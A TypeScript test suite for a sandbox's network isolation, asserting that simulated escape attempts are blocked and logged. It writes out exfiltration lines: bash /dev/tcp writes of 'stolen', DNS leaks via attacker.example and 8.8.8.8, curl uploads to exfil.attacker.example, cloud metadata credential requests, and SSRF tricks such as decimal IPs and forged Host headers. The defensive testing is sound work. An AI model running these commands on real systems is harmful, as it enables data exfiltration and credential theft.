import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditData } from '../../src/audit/index.ts';
import { type AttackLab, type AttackResult, egress, execOf, marker, openLab, shellQuote } from './support.ts';

/** curl through the proxy, named explicitly so it is used even for loopback URLs. */
const CURL = ['curl', '-fsS', '--max-time', '5', '--noproxy', '', '-x', 'http://127.0.0.1:3128'];

/** An address of this host other than loopback, if it has one. */
function hostAddress(): string | undefined {
  return Object.values(networkInterfaces())
    .flat()
    .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;
}

describe('network attacks', () => {
  let lab: AttackLab;
  /** Host services a sandbox must never reach, and what reached them. */
  let web: Server;
  let port: number;
  let lanWeb: Server | undefined;
  let lanPort = 0;
  const lan = hostAddress();
  let dns: UdpSocket;
  let dnsPort: number;
  let connections = 0;
  const datagrams: string[] = [];

  beforeAll(async () => {
    web = createServer((_req, res) => res.end('host secret\n'));
    web.on('connection', () => connections++);
    await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve));
    port = (web.address() as AddressInfo).port;
    if (lan) {
      lanWeb = createServer((_req, res) => res.end('host secret\n'));
      lanWeb.on('connection', () => connections++);
      await new Promise<void>((resolve) => lanWeb!.listen(0, lan, resolve));
      lanPort = (lanWeb.address() as AddressInfo).port;
    }
    dns = createSocket('udp4');
    dns.on('message', (message) => datagrams.push(message.toString()));
    await new Promise<void>((resolve) => dns.bind(0, '127.0.0.1', resolve));
    dnsPort = dns.address().port;
    lab = await openLab({
      policy: 'network:\n  allow: ["allowed.example.invalid", "127.0.0.1", "10.1.2.3", "169.254.169.254"]\n',
    });
  });

  afterAll(async () => {
    await lab?.close();
    web?.closeAllConnections();
    await new Promise((resolve) => web?.close(resolve));
    lanWeb?.closeAllConnections();
    await new Promise((resolve) => (lanWeb ? lanWeb.close(resolve) : resolve(undefined)));
    dns?.close();
  });

  describe('direct connections, around the proxy', () => {
    const cases: [string, () => string[]][] = [
      ['TCP to a public IP address', () => ['bash', '-c', 'echo stolen > /dev/tcp/1.1.1.1/80']],
      ["TCP to the host's 127.0.0.1", () => ['bash', '-c', `echo stolen > /dev/tcp/127.0.0.1/${port}`]],
      [
        "TCP to the host's own network address",
        () => ['bash', '-c', `echo stolen > /dev/tcp/${lan ?? '192.0.2.1'}/${lanPort || 80}`],
      ],
      [
        "a python socket to the host's 127.0.0.1",
        () => ['python3', '-c', `import socket; socket.create_connection(("127.0.0.1", ${port}), 2)`],
      ],
      [
        "a node socket to the host's 127.0.0.1",
        () => [
          'node',
          '-e',
          `require("net").connect(${port}, "127.0.0.1").on("error", () => process.exit(1)).on("connect", () => process.exit(0))`,
        ],
      ],
      [
        'curl ignoring the proxy variables',
        () => ['curl', '-fsS', '--noproxy', '*', 'http://allowed.example.invalid/'],
      ],
    ];
    let attack: AttackResult;

    beforeAll(async () => {
      attack = await lab.runAttacks(cases.map(([, argv]) => shellQuote(argv())));
    });

    it.each(cases)('cannot connect with %s', (_what, argv) => {
      expect(connections).toBe(0);
      expect(execOf(attack.audit, argv())?.exitCode).toBeGreaterThan(0);
      expect(egress(attack.audit)).toEqual([]);
    });
  });

  it('cannot exfiltrate a secret through DNS: no resolver, no UDP to the host', async () => {
    const secret = marker('dnsleak');
    const udp = `import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${secret}", ("127.0.0.1", ${dnsPort}))`;
    const public53 = `import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${secret}", ("8.8.8.8", 53))`;

    const { audit } = await lab.runAttack(
      [
        `getent hosts ${secret}.attacker.example || true`,
        `python3 -c 'import socket; socket.getaddrinfo("${secret}.attacker.example", 80)' || true`,
        `python3 -c '${udp}' || true`,
        `python3 -c '${public53}' || true`,
      ].join('\n'),
    );
    await new Promise((resolve) => setTimeout(resolve, 100));

    expect(datagrams).toEqual([]);
    expect(execOf(audit, ['getent', 'hosts', `${secret}.attacker.example`])).toMatchObject({ exitCode: 2 });
    expect(execOf(audit, ['python3', '-c', public53])).toMatchObject({ exitCode: 1 });
    expect(egress(audit).filter((e) => e.host.includes(secret))).toEqual([]);
  });

  describe('requests through the egress proxy', () => {
    /** What the attack asks for, and the decision the proxy must record: one per case, in order. */
    const cases: [string, () => string[], () => Partial<AuditData<'egress'>>, RegExp][] = [
      [
        "the host's 127.0.0.1",
        () => [...CURL, `http://127.0.0.1:${port}/`],
        () => ({ host: '127.0.0.1', port, method: 'GET' }),
        /loopback/,
      ],
      [
        "the host's 127.0.0.1 written as one number",
        () => [...CURL, `http://2130706433:${port}/`],
        () => ({ host: '127.0.0.1', port, method: 'GET' }),
        /loopback/,
      ],
      [
        "the host's localhost",
        () => [...CURL, `http://localhost:${port}/`],
        () => ({ host: 'localhost', port }),
        /denied/,
      ],
      ["the host's [::1]", () => [...CURL, `http://[::1]:${port}/`], () => ({ host: '::1', port }), /denied/],
      [
        "the host's 127.0.0.1 in a CONNECT tunnel",
        () => [...CURL, '-p', `http://127.0.0.1:${port}/`],
        () => ({ host: '127.0.0.1', port, method: 'CONNECT' }),
        /loopback/,
      ],
      [
        'the allowlisted cloud metadata service over plain HTTP',
        () => [...CURL, 'http://169.254.169.254/latest/meta-data/iam/'],
        () => ({ host: '169.254.169.254', port: 80, method: 'GET' }),
        /link-local/,
      ],
      [
        'the allowlisted cloud metadata service in a CONNECT tunnel',
        () => [...CURL, 'https://169.254.169.254/latest/meta-data/'],
        () => ({ host: '169.254.169.254', port: 443, method: 'CONNECT' }),
        /link-local/,
      ],
      [
        'a domain the policy does not allow, over plain HTTP',
        () => [...CURL, 'http://exfil.attacker.example/upload'],
        () => ({ host: 'exfil.attacker.example', port: 80, method: 'GET' }),
        /no network.allow rule matches it/,
      ],
      [
        'a domain the policy does not allow, over HTTPS (CONNECT)',
        () => [...CURL, 'https://exfil.attacker.example/upload'],
        () => ({ host: 'exfil.attacker.example', port: 443, method: 'CONNECT' }),
        /no network.allow rule matches it/,
      ],
      [
        'an allowlisted private address',
        () => [...CURL, 'http://10.1.2.3/'],
        () => ({ host: '10.1.2.3', port: 80 }),
        /private address/,
      ],
      [
        "the host's 127.0.0.1 by a forged Host header on an allowed request",
        () => [...CURL, '-H', `Host: 127.0.0.1:${port}`, 'http://allowed.example.invalid/'],
        () => ({ host: 'allowed.example.invalid', port: 80 }),
        /cannot resolve/,
      ],
    ];
    let attack: AttackResult;

    beforeAll(async () => {
      attack = await lab.runAttacks(cases.map(([, argv]) => shellQuote(argv())));
    });

    it.each(cases.map((c, index) => [...c, index] as const))(
      'cannot reach %s',
      (_what, argv, decision, reason, index) => {
        expect(connections).toBe(0);
        expect(execOf(attack.audit, argv())).toMatchObject({ exitCode: 22 });
        expect(egress(attack.audit)).toHaveLength(cases.length);
        expect(egress(attack.audit)[index]).toMatchObject({
          ...decision(),
          allowed: false,
          reason: expect.stringMatching(reason),
        });
      },
    );

    it('tells the run each refusal', () => {
      const refusals = attack.events.filter((e) => e.type === 'policy.denied');

      expect(refusals.map((e) => e.data.what)).toEqual(cases.map(() => 'egress'));
    });
  });
});
